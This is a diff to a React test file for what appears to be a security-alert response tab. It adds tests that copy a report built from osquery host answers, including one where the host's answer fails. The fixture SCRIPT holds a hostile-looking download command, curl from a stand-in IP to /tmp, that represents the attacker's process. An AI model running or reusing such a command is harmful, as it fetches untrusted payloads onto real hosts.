@@ -1,14 +1,15 @@
 // @vitest-environment jsdom
 import { cleanup, screen, waitFor, within } from '@testing-library/react';
 import { afterEach, expect, test } from 'vitest';
+import { httpError, type Answers } from '../../test/browser_app/fake_http';
 import { renderApp } from '../../test/browser_app/render_app';
-import { toAlertOfProcess } from '../../test/browser_app/sample_alerts';
+import { NOW, toAlertOfProcess } from '../../test/browser_app/sample_alerts';
 import { toSampleStory, toStoryProcess, toStoryTree } from '../../test/browser_app/sample_story';
 
 afterEach(cleanup);
 
 const SCRIPT = ['sh', '-c', 'curl http://203.0.113.9/x -o /tmp/x'];
-const openRespond = () => {
+const openRespond = (answers: Answers = {}) => {
   const alert = toAlertOfProcess('alert-1', { args: SCRIPT });
   return renderApp({
     path: '/alerts/alert-1?tab=respond',
@@ -19,6 +20,7 @@ const openRespond = () => {
           trees: [toStoryTree([toStoryProcess(0, SCRIPT, { isOfAlert: true })])],
         }),
       }),
+      ...answers,
     },
   });
 };
@@ -52,4 +54,65 @@ test('copies the whole case with a key', async () => {
   await user.keyboard('r');
   await waitFor(() => expect(notices.map(({ title }) => title)).toEqual(['Copied']));
   expect(await navigator.clipboard.readText()).toContain('# Command run through a web server');
+});
+
+/** The host was asked once, and answered by its own process and another. */
+const toHostAnswers = (results: () => unknown): Answers => ({
+  'GET /api/osquery/live_queries': () => ({
+    data: {
+      total: 1,
+      items: [
+        {
+          _source: {
+            '@timestamp': NOW,
+            action_id: 'action-1',
+            alert_ids: ['alert-1'],
+            agents: ['agent-1'],
+            queries: [{ action_id: 'query-1', query: 'SELECT pid, name FROM processes' }],
+          },
+        },
+      ],
+    },
+  }),
+  'GET /api/osquery/live_queries/*': () => ({
+    data: {
+      action_id: 'action-1',
+      '@timestamp': NOW,
+      status: 'completed',
+      queries: [{ action_id: 'query-1', pending: 0, responded: 1, successful: 1, failed: 0 }],
+    },
+  }),
+  'GET /api/osquery/live_queries/*/results/*': results,
+});
+const copyReport = async (answers: Answers): Promise<string> => {
+  const { user } = openRespond(answers);
+  await waitFor(() =>
+    expect(screen.getByTestId('webServerRceCopyReport')).toHaveProperty('disabled', false)
+  );
+  await user.click(screen.getByTestId('webServerRceCopyReport'));
+  return navigator.clipboard.readText();
+};
+
+test('reports what the host answered about the alert, and nothing else of it', async () => {
+  const rows = [
+    { pid: '4711', name: 'dash' },
+    { pid: '1', name: 'systemd' },
+  ];
+  const report = await copyReport(
+    toHostAnswers(() => ({
+      data: { total: 2, edges: rows.map((osquery) => ({ _source: { osquery } })) },
+    }))
+  );
+  expect(report).toContain('| pid | name |\n| --- | --- |\n| 4711 | dash |\n');
+  expect(report).not.toContain('systemd');
+  expect(report).not.toContain('could not be read');
+});
+
+test('says in the report that an answer of the host could not be read', async () => {
+  const report = await copyReport(
+    toHostAnswers(() => {
+      throw httpError(500, { message: 'broken' });
+    })
+  );
+  expect(report).toContain('could not be read');
 });
